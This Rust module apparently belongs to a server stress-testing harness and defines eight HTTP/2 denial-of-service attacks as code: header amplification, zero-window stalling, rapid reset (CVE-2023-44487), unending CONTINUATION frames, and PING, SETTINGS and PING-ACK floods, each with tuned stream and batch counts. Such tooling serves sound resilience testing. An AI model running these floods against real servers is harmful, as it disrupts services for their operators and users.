//! Frames that no client library of HTTP/2 would send.

mod frame;
mod session;

use std::io;
use std::time::Duration;

use bench::INTERFACE;

use self::frame::{
    ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE,
    MAX_PAYLOAD_LEN, NO_FLAGS, PING, RST_STREAM, SETTINGS, WINDOW_UPDATE,
};
use self::session::Session;
use super::{Attack, COMMON, json_text};
use crate::estate::BULK_INTERFACE;
use crate::peer::{Crowd, Peer};

/// As many as the agent allows at a time.
const N_STREAMS: u32 = 100;
/// So many fields of 34 bytes, as HTTP/2 counts them, are just below the limit of a head, 65,536.
const N_AMPLIFIED_FIELDS: usize = 1890;
const ZERO_WINDOW_LEN: usize = 400_000;
/// Frames that are sent by one write in a flood.
const N_FRAMES_PER_BATCH: u32 = 2000;
/// Streams are numbered again on a new connection after so many.
const MAX_RESETS: u32 = 1_000_000;
const CANCEL: u32 = 8;
const PING_INTERVAL: Duration = Duration::from_secs(1);

pub(super) const ALL: &[Attack] = &[
    Attack {
        name: "h2-amplification",
        about: "80 x 100 streams of 1,890 header fields in a byte each, bodies never come",
        peer: |aim| Box::pin(Crowd::of(80).run(aim, amplification)),
        ..COMMON
    },
    Attack {
        name: "h2-zero-window",
        about: "20 x 100 streams have 400 kB come back with a window of 0, and PING",
        peer: |aim| Box::pin(Crowd::of(20).run(aim, zero_window)),
        ..COMMON
    },
    Attack {
        name: "h2-rapid-reset",
        about: "16 connections begin calls and reset them at once (CVE-2023-44487)",
        peer: |aim| Box::pin(Crowd::of(16).run(aim, rapid_reset)),
        ..COMMON
    },
    Attack {
        name: "h2-continuation",
        about: "16 connections send heads by CONTINUATION frames that never end",
        peer: |aim| Box::pin(Crowd::of(16).run(aim, continuation)),
        ..COMMON
    },
    Attack {
        name: "h2-pings",
        about: "8 connections send PINGs as fast as they are taken, and read the answers",
        peer: |aim| Box::pin(Crowd::of(8).run(aim, pings)),
        ..COMMON
    },
    Attack {
        name: "h2-pings-unread",
        about: "8 connections send PINGs and read no answers",
        peer: |aim| Box::pin(Crowd::of(8).not_reading().run(aim, pings_unread)),
        ..COMMON
    },
    Attack {
        name: "h2-settings",
        about: "8 connections send SETTINGS as fast as they are taken",
        peer: |aim| Box::pin(Crowd::of(8).run(aim, settings)),
        ..COMMON
    },
    Attack {
        name: "h2-ping-acks",
        about: "8 connections answer PINGs that nobody sent",
        peer: |aim| Box::pin(Crowd::of(8).run(aim, ping_acks)),
        ..COMMON
    },
];

fn fields(interface: &str) -> Vec<u8> {
    frame::call_fields(&format!("/{interface}/echo"))
}

/// Numbers of streams that a client opens.
fn streams() -> impl Iterator<Item = u32> {
    (1..).step_by(2)
}

async fn amplification(peer: Peer) -> io::Result<()> {
    let mut out = frame::start(&[]);
    for (nth, stream) in streams().take(N_STREAMS as usize).enumerate() {
        let mut fields = fields(INTERFACE);
        if nth == 0 {
            frame::remembered(&mut fields, "a", "b");
        }
        fields.extend([frame::newest()].repeat(N_AMPLIFIED_FIELDS));
        frame::write(&mut out, HEADERS, END_HEADERS, stream, &fields);
    }
    let mut session = Session::new(peer, out);
    session.stay_alive(PING_INTERVAL).await
}

async fn zero_window(peer: Peer) -> io::Result<()> {
    let mut session = Session::new(peer, frame::start(&[(INITIAL_WINDOW_SIZE, 0)]));
    let fields = fields(BULK_INTERFACE);
    let body = json_text(ZERO_WINDOW_LEN);
    for stream in streams().take(N_STREAMS as usize) {
        session.call(stream, &fields, &body).await?;
    }
    session.stay_alive(PING_INTERVAL).await
}

async fn rapid_reset(mut peer: Peer) -> io::Result<()> {
    peer.send(&frame::start(&[])).await?;
    let fields = fields(INTERFACE);
    let body = json_text(16);
    let mut out = Vec::new();
    for stream in streams().take(MAX_RESETS as usize) {
        frame::write(&mut out, HEADERS, END_HEADERS, stream, &fields);
        frame::write(&mut out, DATA, END_STREAM, stream, &body);
        frame::write(&mut out, RST_STREAM, NO_FLAGS, stream, &CANCEL.to_be_bytes());
        while MAX_PAYLOAD_LEN < out.len() {
            peer.turn(&mut out).await?;
            tokio::task::yield_now().await;
        }
    }
    Ok(())
}

async fn continuation(mut peer: Peer) -> io::Result<()> {
    peer.send(&frame::start(&[])).await?;
    let mut out = Vec::new();
    frame::write(&mut out, HEADERS, NO_FLAGS, 1, &fields(INTERFACE));
    peer.send(&out).await?;
    let mut fields = Vec::new();
    while fields.len() < MAX_PAYLOAD_LEN - 64 {
        frame::named(&mut fields, "x-more", "and more");
    }
    let mut batch = Vec::new();
    frame::write(&mut batch, CONTINUATION, NO_FLAGS, 1, &fields);
    peer.flood(&batch).await
}

async fn pings(peer: Peer) -> io::Result<()> {
    flood(peer, PING, NO_FLAGS, b"pingping").await
}

async fn pings_unread(mut peer: Peer) -> io::Result<()> {
    peer.send(&frame::start(&[])).await?;
    peer.flood_deaf(&batch(PING, NO_FLAGS, b"pingping")).await
}

async fn settings(peer: Peer) -> io::Result<()> {
    flood(peer, SETTINGS, NO_FLAGS, &[0, 4, 0, 1, 0, 0]).await
}

async fn ping_acks(peer: Peer) -> io::Result<()> {
    flood(peer, PING, ACK, b"notasked").await
}

/// The same frame of the whole connection again and again; answers are read.
async fn flood(mut peer: Peer, kind: u8, flags: u8, payload: &[u8]) -> io::Result<()> {
    peer.send(&frame::start(&[])).await?;
    peer.flood(&batch(kind, flags, payload)).await
}

fn batch(kind: u8, flags: u8, payload: &[u8]) -> Vec<u8> {
    let mut batch = Vec::new();
    for _ in 0..N_FRAMES_PER_BATCH {
        frame::write(&mut batch, kind, flags, 0, payload);
    }
    batch
}
